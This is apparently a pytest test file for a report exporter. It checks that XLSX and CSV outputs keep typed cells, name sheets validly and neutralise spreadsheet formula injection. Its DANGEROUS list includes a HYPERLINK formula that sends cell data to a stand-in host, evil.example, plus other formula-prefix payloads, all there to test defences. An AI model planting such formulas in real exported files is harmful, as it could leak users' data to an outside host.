from __future__ import annotations

import csv
import datetime as dt
import io
import zipfile

import numpy as np
import pandas as pd
import pytest
from openpyxl import load_workbook

from dashboards.reports.document import Branding, ReportDocument, ReportSection, ReportTable
from dashboards.reports.render_data import csv_zip_render, sheet_names, xlsx_render

# Text a spreadsheet would run as a formula (or that starts with a control character), and
# what each cell must hold instead.
DANGEROUS = [
    ('=HYPERLINK("https://evil.example/?x="&A1,"click")', "'"),
    ("+1", "'"),
    ("-2+3", "'"),
    ("@SUM(A1)", "'"),
    ("\tcmd", "'"),
    ("\rcmd", "'"),
]


def posts_frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "Rang": [1, 2, 3, 4, 5, 6],
            "Publié": pd.to_datetime(
                pd.Series(
                    ["2026-10-01", "2026-10-02", "2026-10-03", "2026-10-04", "2026-10-05", None]
                )
            ),
            "Texte": [text for text, _prefix in DANGEROUS],
            "Interactions": [1234.0, 56.5, np.nan, -7.0, 0.0, np.float64(3)],
            "Sponsorisé": [True, False, True, False, True, False],
        }
    )


def document(**changes: object) -> ReportDocument:
    values: dict[str, object] = {
        "title": "Rapport mensuel",
        "workspace_name": "Acme",
        "workspace_slug": "acme",
        "language": "en",
        "period_start": dt.date(2026, 10, 1),
        "period_end": dt.date(2026, 10, 31),
        "compare_start": dt.date(2026, 9, 1),
        "compare_end": dt.date(2026, 9, 30),
        "period_label": "1 octobre 2026 – 31 octobre 2026",
        "compare_label": "1 septembre 2026 – 30 septembre 2026",
        "scope_lines": ["Comptes : Acme Insta"],
        "generated_at": dt.datetime(2026, 11, 1, 7, 30, tzinfo=dt.UTC),
        "branding": Branding("Acme", "#1f4e79", "", None),
        "sections": [
            ReportSection(
                "1-summary",
                "summary",
                "Synthèse",
                "reports/sections/summary.html",
                tables=[
                    ReportTable(
                        "Synthèse",
                        pd.DataFrame({"KPI": ["Portée", "=1+1"], "Valeur": [12345.0, 0.25]}),
                    )
                ],
            ),
            ReportSection(
                "2-posts",
                "posts",
                "Publications",
                "reports/sections/posts.html",
                tables=[ReportTable("Publications", posts_frame())],
            ),
        ],
        "has_data": True,
        "kpi_versions": {"reach": 3, "engagement_rate": 1},
        "data_freshness": {
            "7": {
                "name": "Acme Insta",
                "platform": "instagram",
                "last_sync": "2026-11-01T05:00:00+00:00",
                "last_day": "2026-10-31",
            }
        },
    }
    values.update(changes)
    return ReportDocument(**values)  # type: ignore[arg-type]


def test_xlsx_has_a_report_sheet_then_one_sheet_per_table() -> None:
    book = load_workbook(io.BytesIO(xlsx_render(document())))

    assert book.sheetnames == ["Report", "Synthèse", "Publications"]
    sheet = book["Report"]
    report = {row[0].value: [cell.value for cell in row[1:]] for row in sheet.iter_rows()}
    assert report["Title"][0] == "Rapport mensuel"
    assert report["From"][0] == dt.datetime(2026, 10, 1)  # a date cell, not text
    assert report["Comparison period"][0] == "1 septembre 2026 – 30 septembre 2026"
    assert report["Scope"][0] == "Comptes : Acme Insta"
    assert report["Generated at (UTC)"][0] == dt.datetime(2026, 11, 1, 7, 30)
    assert report["reach"][0] == 3 and report["engagement_rate"][0] == 1
    assert report["Acme Insta"][:3] == [
        "instagram",
        dt.datetime(2026, 11, 1, 5, 0),
        dt.datetime(2026, 10, 31),
    ]
    assert report["Synthèse"][0] == "Synthèse" and report["Publications"][0] == "Publications"


def test_xlsx_table_sheet_has_a_bold_frozen_header_and_typed_cells() -> None:
    sheet = load_workbook(io.BytesIO(xlsx_render(document())))["Publications"]

    assert [cell.value for cell in sheet[1]] == [
        "Rang",
        "Publié",
        "Texte",
        "Interactions",
        "Sponsorisé",
    ]
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet["A2"].value == 1 and sheet["A2"].data_type == "n"
    assert sheet["B2"].value == dt.datetime(2026, 10, 1) and sheet["B2"].is_date
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet["B7"].value is None  # NaT: not available, not a made-up date
    assert [sheet[f"D{row}"].value for row in range(2, 8)] == [1234, 56.5, None, -7, 0, 3]
    assert all(sheet[f"D{row}"].data_type == "n" for row in (2, 3, 5, 6, 7))
    assert sheet["E2"].value is True
    assert 8 <= sheet.column_dimensions["C"].width <= 60


@pytest.mark.parametrize("row", range(len(DANGEROUS)))
def test_xlsx_text_that_looks_like_a_formula_stays_text(row: int) -> None:
    sheet = load_workbook(io.BytesIO(xlsx_render(document())))["Publications"]
    text, prefix = DANGEROUS[row]

    cell = sheet.cell(row=row + 2, column=3)
    assert cell.data_type == "s"  # "f" would be a formula
    assert cell.value == prefix + text


def test_xlsx_has_no_formula_anywhere() -> None:
    book = load_workbook(io.BytesIO(xlsx_render(document())))

    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
    assert cells and not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert book["Synthèse"]["A3"].value == "'=1+1"


def test_sheet_names_are_valid_and_unique_without_case() -> None:
    frame = pd.DataFrame({"a": [1]})
    tables = [
        ReportTable("Reach [by]: platform/tag*?", frame),
        ReportTable("reach [BY]: platform/tag*?", frame),
        ReportTable("x" * 40, frame),
        ReportTable("x" * 40, frame),
        ReportTable("History", frame),
        ReportTable("'Quoted'", frame),
        ReportTable("", frame),
    ]
    doc = document(sections=[ReportSection("1-x", "kpi_chart", "X", "t", tables=tables)])

    names = sheet_names(doc)

    assert names[1:3] == ["Reach _by__ platform_tag__", "reach _BY__ platform_tag__ (2)"]
    assert names[3] == "x" * 31 and names[4] == "x" * 27 + " (2)"
    assert names[5] == "History (2)" and names[6] == "Quoted" and names[7] == "Table"
    assert len({name.casefold() for name in names}) == len(names)
    assert all(len(name) <= 31 for name in names)
    assert load_workbook(io.BytesIO(xlsx_render(doc))).sheetnames == names


def test_xlsx_drops_characters_xml_cannot_hold() -> None:
    frame = pd.DataFrame({"Texte": ["a\x0bb\x00c 🎉", "\ud83d"]})
    doc = document(
        sections=[ReportSection("1-x", "posts", "X", "t", tables=[ReportTable("P", frame)])]
    )

    sheet = load_workbook(io.BytesIO(xlsx_render(doc)))["P"]

    assert [sheet["A2"].value, sheet["A3"].value] == ["abc 🎉", None]


def test_csv_zip_has_report_csv_and_one_bom_file_per_table() -> None:
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_render(document())))

    assert archive.namelist() == ["report.csv", "01-synthese.csv", "02-publications.csv"]
    for name in archive.namelist():
        assert archive.read(name).startswith(b"\xef\xbb\xbf")
    report = {
        row[0]: row[1]
        for row in csv.reader(io.StringIO(archive.read("report.csv").decode("utf-8-sig")))
        if len(row) >= 2
    }
    assert report["From"] == "2026-10-01"
    assert report["Generated at (UTC)"] == "2026-11-01T07:30:00Z"
    assert report["engagement_rate"] == "1"
    assert report["02-publications.csv"] == "Publications"


def test_csv_cells_are_neutralised_and_numbers_stay_numbers() -> None:
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_render(document())))
    rows = list(csv.reader(io.StringIO(archive.read("02-publications.csv").decode("utf-8-sig"))))

    assert rows[0] == ["Rang", "Publié", "Texte", "Interactions", "Sponsorisé"]
    assert [row[2] for row in rows[1:]] == [prefix + text for text, prefix in DANGEROUS]
    assert [row[3] for row in rows[1:]] == ["1234", "56.5", "", "-7", "0", "3"]
    assert [row[1] for row in rows[1:]] == [
        "2026-10-01",
        "2026-10-02",
        "2026-10-03",
        "2026-10-04",
        "2026-10-05",
        "",
    ]
    assert rows[1][4] == "true"


def test_csv_zip_is_the_same_bytes_when_rendered_twice() -> None:
    assert csv_zip_render(document()) == csv_zip_render(document())


def test_exports_speak_the_documents_language() -> None:
    french = document(language="fr")
    book = load_workbook(io.BytesIO(xlsx_render(french)))
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_render(french)))

    labels = [row[0].value for row in book.worksheets[0].iter_rows()]
    assert "Du" in labels and "Période de comparaison" in labels and "From" not in labels
    report = archive.read("report.csv").decode("utf-8-sig")
    assert "Période de comparaison" in report and "Comparison period" not in report


def test_a_document_without_tables_or_comparison_still_exports() -> None:
    doc = document(
        sections=[], compare_start=None, compare_end=None, compare_label="", scope_lines=[]
    )

    book = load_workbook(io.BytesIO(xlsx_render(doc)))
    archive = zipfile.ZipFile(io.BytesIO(csv_zip_render(doc)))

    assert book.sheetnames == ["Report"]
    assert archive.namelist() == ["report.csv"]
    labels = {row[0].value: row[1].value for row in book["Report"].iter_rows() if row[0].value}
    assert labels["Comparison period"] == "None"
    assert labels["Scope"] == "All accounts of the workspace"
